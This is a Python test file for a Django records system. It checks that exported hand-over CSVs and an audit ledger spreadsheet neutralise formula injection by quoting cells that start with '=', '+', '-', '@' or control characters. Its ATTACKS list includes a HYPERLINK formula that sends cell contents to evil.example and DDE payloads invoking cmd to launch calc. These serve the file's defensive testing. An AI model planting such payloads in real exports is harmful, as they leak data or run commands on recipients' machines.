"""Formula injection (issue 16 item 2): hand-over package CSVs and the ledger XLSX never carry a live formula."""

from __future__ import annotations

import csv
import io

import pyzipper
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from madoguchi.core.sheets import is_formula_text
from madoguchi.handover import selectors
from madoguchi.handover.models import LedgerEntry
from madoguchi.handover.services import ledger, packages
from madoguchi.handover.services.packing import encode_csv

ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"詳細")', "+81-3-1234-5678", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+9)*cmd|' /C calc'!A0"]


def _package(world):
    return packages.request_package(
        program=world.programs["coming"], recipient=world.orgs["kyokudo"], task="printing", medium="usb",
        items=["name", "postal_code", "address"], purpose="案内状宛名", medium_label="USB-7", actor=world.actor("owner"),
        run_now=True)


def test_applicant_typed_fields_in_a_package_csv_are_text(world):
    # given residents of the cohort whose address and name begin with formula characters
    cohort = [world.residents[k] for k in ("first_day", "last_day", "cohort1", "cohort2")]
    for resident, attack in zip(cohort, ATTACKS, strict=True):
        resident.address = attack
        resident.save(update_fields=["address"])
    # when the owner makes the package
    job = _package(world)
    with pyzipper.AESZipFile(io.BytesIO(packages.storage.read(job.file_path))) as zf:
        zf.setpassword(job.password.encode())
        data = zf.read(zf.namelist()[0]).decode("cp932")
    rows = list(csv.reader(io.StringIO(data)))
    # then every such cell is prefixed with a quote and nothing begins a formula
    addresses = {r[2] for r in rows[1:]}
    assert {"'" + a for a in ATTACKS} <= addresses
    assert not any(cell[:1] in "=+-@\t\r" and cell for r in rows for cell in r)


def test_encode_csv_neutralises_every_trigger():
    out = encode_csv(["氏名"], ["name"], [(1, {"name": a}) for a in ATTACKS + ["\t=1", "\r=1"]], encoding="utf-8-sig")
    cells = [r[0] for r in csv.reader(io.StringIO(out.data.decode("utf-8-sig")))][1:]
    assert all(c.startswith("'") for c in cells)


def test_staff_typed_erasure_method_is_not_a_formula_in_the_ledger_xlsx(world):
    # given an erasure method typed by staff beginning with "="
    entry = LedgerEntry.objects.get(package=_package(world))
    ledger.record_recipient_erasure(entry=entry, erased_on=timezone.localdate(), method="=1+1",
                                    certificate=SimpleUploadedFile("c.pdf", b"%PDF-1.4\n%%EOF\n", content_type="application/pdf"),
                                     actor=world.actor("owner"))
    # when the ledger is exported
    data = ledger.ledger_xlsx([r.entry for r in selectors.ledger_rows(world.actor("privacy"))],
                              actor=world.actor("privacy"))
    ws = load_workbook(io.BytesIO(data)).active
    # then the cell holds text, not a formula
    cells = [c for row in ws.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)
    assert "'=1+1" in [c.value for c in cells]


# Text without private-use characters: an unmapped vendor 外字 stops the package by design (issue 19, ADR 0016).
NO_GAIJI = st.text(alphabet=st.characters(blacklist_categories=("Co", "Cs")), max_size=12)


@given(st.lists(st.one_of(NO_GAIJI, st.sampled_from(["=1+1", "+1", "-1+1", "@A1", "\t=1", "\r=1"])),
                min_size=1, max_size=20))
def test_property_no_package_cell_starts_a_formula(values):
    out = encode_csv(["氏名"], ["name"], [(n, {"name": v}) for n, v in enumerate(values)], encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(out.data.decode("utf-8-sig"), newline="")))
    assert not any(is_formula_text(cell) for row in rows for cell in row)
